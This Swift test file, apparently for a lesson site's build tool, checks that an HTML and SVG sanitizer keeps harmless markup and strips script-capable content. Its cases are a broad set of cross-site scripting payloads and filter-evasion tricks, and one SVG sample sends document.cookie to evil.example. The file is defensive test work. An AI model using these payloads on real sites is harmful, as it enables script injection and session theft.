import Testing

@testable import Site

/// What the sanitizer keeps of a lesson's HTML, case by case: harmless markup kept exactly,
/// every script-capable construct dropped, the output canonical and balanced.
struct HTMLSanitizerTests {
    static let cases: [(String, String)] = [
        // Harmless markup is kept, canonically written.
        ("<span style=\"color:green\">Title</span>", "<span style=\"color:green\">Title</span>"),
        ("<b>bold</b> <i>it</i> x<sub>1</sub> <kbd>K</kbd>", "<b>bold</b> <i>it</i> x<sub>1</sub> <kbd>K</kbd>"),
        (
            "<img src=./images/mlp.png width=400 height=400 alt=\"An MLP\">",
            "<img src=\"./images/mlp.png\" width=\"400\" height=\"400\" alt=\"An MLP\" />"
        ),
        ("<p align=center>x</p>", "<p align=\"center\">x</p>"),
        ("<a href='https://example.com/a?b=1&amp;c=2'>w</a>", "<a href=\"https://example.com/a?b=1&amp;c=2\">w</a>"),
        (
            "<a href=\"#section-2\">s</a> <a href=\"mailto:a@b.c\">m</a>",
            "<a href=\"#section-2\">s</a> <a href=\"mailto:a@b.c\">m</a>"
        ),
        (
            "<table border=1><tr><td colspan=2>c</td></tr></table>",
            "<table border=\"1\"><tr><td colspan=\"2\">c</td></tr></table>"
        ),
        (
            "<details open><summary>More</summary>text</details>",
            "<details open=\"\"><summary>More</summary>text</details>"
        ),
        ("a &lt; b &amp; c &eacute; &#x3b1; &#946; &nbsp;x", "a &lt; b &amp; c é α β \u{A0}x"),
        ("<br><br/><hr>", "<br /><br /><hr />"),
        // Styles keep colour, weight, alignment; everything else goes.
        (
            "<span style=\"color: red; position: fixed; top:0; font-weight:bold\">x</span>",
            "<span style=\"color:red;font-weight:bold\">x</span>"
        ),
        ("<div style=\"position:fixed;inset:0;z-index:99\">overlay</div>", "<div>overlay</div>"),
        ("<span style=\"color:expression(alert(1))\">x</span>", "<span>x</span>"),
        ("<span style=\"background-color:url(javascript:alert(1))\">x</span>", "<span>x</span>"),
        ("<span style=\"color:\\72 ed\">x</span>", "<span>x</span>"),
        ("<span style=\"color:rgb(0, 128, 0)\">x</span>", "<span style=\"color:rgb(0, 128, 0)\">x</span>"),
        // Scripts and handlers.
        ("<script>alert(1)</script>after", "after"),
        ("<SCRIPT SRC=//evil.example/x.js></SCRIPT>after", "after"),
        ("<img src=x onerror=alert(1)>", "<img src=\"x\" />"),
        ("<img src=x ONERROR=\"alert(1)\" />", "<img src=\"x\" />"),
        ("<body onload=alert(1)>x", "x"),
        ("<svg onload=alert(1)>", "<svg></svg>"),
        ("<div onmouseover\n=alert(1)>x</div>", "<div>x</div>"),
        ("<img/src=\"x\"/onerror=alert(1)>", "<img src=\"x\" />"),
        ("<style>body{display:none}</style>x", "x"),
        ("<style><img src=x onerror=alert(1)></style>x", "x"),
        ("<textarea><script>alert(1)</script></textarea>x", "x"),
        ("<title></title><img src=x onerror=alert(1)>", "<img src=\"x\" />"),
        ("<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<img src=\"x\" />&quot;&gt;"),
        ("<iframe src=\"javascript:alert(1)\"></iframe>x", "x"),
        ("<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>", ""),
        ("<object data=\"data:text/html,<script>alert(1)</script>\"></object>", ""),
        ("<embed src=\"javascript:alert(1)\">x", "x"),
        ("<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">x", "x"),
        ("<base href=\"https://evil.example/\">x", "x"),
        ("<form action=\"https://evil.example\"><input type=password name=p><button>Go</button></form>x", "x"),
        ("<link rel=stylesheet href=https://evil.example/x.css>x", "x"),
        ("<template><img src=x onerror=alert(1)></template>x", "x"),
        ("<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>y", "y"),
        ("<plaintext><b>x", ""),
        // URLs after decoding, with control characters and white space removed.
        ("<a href=\"javascript:alert(1)\">x</a>", "<a>x</a>"),
        ("<a href=\"JaVaScRiPt:alert(1)\">x</a>", "<a>x</a>"),
        ("<a href=\"java\tscript:alert(1)\">x</a>", "<a>x</a>"),
        ("<a href=\"java\nscript:alert(1)\">x</a>", "<a>x</a>"),
        ("<a href=\"&#106;avascript:alert(1)\">x</a>", "<a>x</a>"),
        ("<a href=\"&#x6A&#x61vascript:alert(1)\">x</a>", "<a>x</a>"),
        ("<a href=\"javascript&colon;alert(1)\">x</a>", "<a>x</a>"),
        ("<a href=\"jav&Tab;ascript:alert(1)\">x</a>", "<a>x</a>"),
        ("<a href=\"jav&NewLine;ascript:alert(1)\">x</a>", "<a>x</a>"),
        ("<a href=\" \u{1}javascript:alert(1)\">x</a>", "<a>x</a>"),
        ("<a href=\"\u{0}javascript:alert(1)\">x</a>", "<a>x</a>"),
        ("<a href=\"&#0000106&#0000097vascript:alert(1)\">x</a>", "<a>x</a>"),
        ("<a href=vbscript:msgbox(1)>x</a>", "<a>x</a>"),
        ("<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>", "<a>x</a>"),
        ("<a href=\"file:///etc/passwd\">x</a>", "<a>x</a>"),
        ("<img src=\"data:image/png;base64,iVBORw0KGgo=\">", "<img src=\"data:image/png;base64,iVBORw0KGgo=\" />"),
        ("<img src=\"data:image/svg+xml;base64,PHN2Zz4=\">", "<img />"),
        ("<img src=\"javascript:alert(1)\">", "<img />"),
        ("<img srcset=\"a.png 1x, javascript:alert(1) 2x, b.png 3x\">", "<img srcset=\"a.png 1x, b.png 3x\" />"),
        ("<blockquote cite=\"javascript:alert(1)\">q</blockquote>", "<blockquote>q</blockquote>"),
        // Attributes as a browser reads them: the first of two wins; `</script` inside a value.
        ("<a href=\"https://ok.example\" href=\"javascript:alert(1)\">x</a>", "<a href=\"https://ok.example\">x</a>"),
        (
            "<a title=\"</script><script>alert(1)</script>\">x</a>",
            "<a title=\"&lt;/script&gt;&lt;script&gt;alert(1)&lt;/script&gt;\">x</a>"
        ),
        ("<a title='x\" onmouseover=\"alert(1)'>x</a>", "<a title=\"x&quot; onmouseover=&quot;alert(1)\">x</a>"),
        ("<a href=https://ok.example/?a=1&copy=2>x</a>", "<a href=\"https://ok.example/?a=1&amp;copy=2\">x</a>"),
        // Comments, CDATA, bogus comments.
        ("a<!-- <script>alert(1)</script> -->b", "ab"),
        ("a<!-->b<img src=x onerror=alert(1)>-->", "ab<img src=\"x\" />--&gt;"),
        ("a<!--->b", "ab"),
        ("a<!-- x --!>b", "ab"),
        ("a<![CDATA[<script>alert(1)</script>]]>b", "aalert(1)]]&gt;b"),
        ("<svg><![CDATA[<script>alert(1)</script>]]></svg>", "<svg>&lt;script&gt;alert(1)&lt;/script&gt;</svg>"),
        ("a<?xml version=\"1.0\"?>b</ x>c", "abc"),
        ("a<!DOCTYPE html>b", "ab"),
        // Malformed tags.
        ("<img src=x onerror=alert(1)", ""),
        ("a < b and c<d", "a &lt; b and c"),
        ("<<script>alert(1)//<</script>", "&lt;"),
        ("</>x", "x"),
        ("<a href=\"x\"\u{0}onclick=alert(1)>y</a>", "<a href=\"x\">y</a>"),
        ("x\u{0}y", "xy"),
        // Balance: stray end tags dropped, open elements closed.
        ("</div></main></body>x", "x"),
        ("<b><i>x</b>y", "<b><i>x</i></b>y"),
        ("<div>x", "<div>x</div>"),
        // SVG: shapes kept with their self-closing tags, scripts and links checked.
        (
            "<svg viewBox=\"0 0 10 10\"><rect x=1 y=1 width=2 height=2 /><circle cx=5 cy=5 r=1 /><line x1=0 y1=0 x2=9 y2=9 stroke=black /></svg>",
            "<svg viewBox=\"0 0 10 10\"><rect x=\"1\" y=\"1\" width=\"2\" height=\"2\" /><circle cx=\"5\" cy=\"5\" r=\"1\" /><line x1=\"0\" y1=\"0\" x2=\"9\" y2=\"9\" stroke=\"black\" /></svg>"
        ),
        ("<svg><script>alert(1)</script><g/></svg>", "<svg><g /></svg>"),
        ("<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>", "<svg><a><text>x</text></a></svg>"),
        (
            "<svg><a href=\"https://ok.example\"><text>x</text></a></svg>",
            "<svg><a href=\"https://ok.example\"><text>x</text></a></svg>"
        ),
        ("<svg><use href=\"data:image/svg+xml,<svg id='x'/>#x\"/></svg>", "<svg><use /></svg>"),
        ("<svg><use xlink:href=\"#shape\"/></svg>", "<svg><use href=\"#shape\" /></svg>"),
        (
            "<svg><a><animate attributeName=href to=\"javascript:alert(1)\"/><text>x</text></a></svg>",
            "<svg><a><text>x</text></a></svg>"
        ),
        ("<svg><set attributeName=\"xlink:href\" to=\"javascript:alert(1)\"/></svg>", "<svg></svg>"),
        ("<svg><a><set attributeName=\"HREF\" to=\"javascript:alert(1)\"></set></a></svg>", "<svg><a></a></svg>"),
        ("<svg><animate attributeName=onbegin values=\"alert(1)\"/></svg>", "<svg></svg>"),
        (
            "<svg><circle r=1><animate attributeName=r values=\"1;2;1\" dur=\"1s\"/></circle></svg>",
            "<svg><circle r=\"1\"><animate attributeName=\"r\" values=\"1;2;1\" dur=\"1s\" /></circle></svg>"
        ),
        (
            "<svg><animate attributeName=fill values=\"red;javascript:alert(1)\"/></svg>",
            "<svg><animate attributeName=\"fill\" /></svg>"
        ),
        ("<svg><foreignObject><iframe src=x></iframe></foreignObject></svg>", "<svg></svg>"),
        (
            "<svg><rect fill=\"url(https://evil.example/x.svg#p)\"/><rect fill=\"url(#grad)\"/></svg>",
            "<svg><rect /><rect fill=\"url(#grad)\" /></svg>"
        ),
        (
            "<svg><lineargradient id=g gradientunits=userSpaceOnUse /></svg>",
            "<svg><linearGradient id=\"g\" gradientUnits=\"userSpaceOnUse\" /></svg>"
        ),
        // As in a browser, `/` right after an unquoted value belongs to the value: the tag stays open.
        ("<svg><rect width=2/><circle r=1 /></svg>", "<svg><rect width=\"2/\"><circle r=\"1\" /></rect></svg>"),
        ("<svg><title><b>t</b></title></svg>", "<svg><title>t</title></svg>"),
        ("<svg><p><img src=x onerror=alert(1)></p></svg>", "<svg></svg><p><img src=\"x\" /></p>"),
        ("<svg><style>@import url(https://evil.example/x.css)</style></svg>", "<svg></svg>"),
        (
            "<svg><image href=\"data:image/png;base64,AAAA\"/><image href=\"javascript:alert(1)\"/></svg>",
            "<svg><image href=\"data:image/png;base64,AAAA\" /><image /></svg>"
        ),
        // Identifiers cannot take the page's own.
        ("<span id=\"formula-3\">x</span><span id=\"note\">y</span>", "<span>x</span><span id=\"note\">y</span>"),
        ("<span class=\"formula verified\">x</span>", "<span>x</span>"),
        // Unknown elements are unwrapped.
        ("<custom-tag foo=bar>x</custom-tag>", "x"),
        ("<marquee>x</marquee>", "x"),
    ]

    @Test(arguments: cases)
    func sanitizes(_ input: String, _ expected: String) {
        #expect(HTMLSanitizer.sanitizeDocument(input) == expected)
    }

    @Test func elementsLeftOpenStayOpenAcrossPiecesWithinTheirContainer() {
        var sanitizer = HTMLSanitizer()
        var out = sanitizer.sanitize("<details>\n<summary>Proof</summary>")
        let paragraph = sanitizer.enterContainer()
        out += "<p>" + sanitizer.sanitize("<b>x") + sanitizer.sanitize("</details>")
        out += sanitizer.leaveContainer(paragraph) + "</p>"
        out += sanitizer.sanitize("</details>") + sanitizer.finish()
        #expect(out == "<details>\n<summary>Proof</summary><p><b>x</b></p></details>")
    }
}

/// SVG files a lesson shows as images are copied into the site through the same allowlist.
struct SVGFileTests {
    @Test func anSVGFileKeepsItsDrawingAndLosesItsScript() {
        let file = """
            <?xml version="1.0" encoding="UTF-8"?>
            <!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">
            <svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 4 4" onload="alert(1)">
            <script type="text/javascript"><![CDATA[ fetch('https://evil.example/?' + document.cookie) ]]></script>
            <rect width="4" height="4" fill="#fff"/><a xlink:href="javascript:alert(2)"><circle r="1"/></a>
            </svg>
            """
        #expect(
            SiteBuilder.sanitizedSVGFile(file) == """
                <svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 4 4">

                <rect width="4" height="4" fill="#fff" /><a><circle r="1" /></a>
                </svg>

                """)
        #expect(
            SiteBuilder.sanitizedSVGFile("<html><script>alert(1)</script></html>")
                == "<svg xmlns=\"http://www.w3.org/2000/svg\" />\n")
    }
}
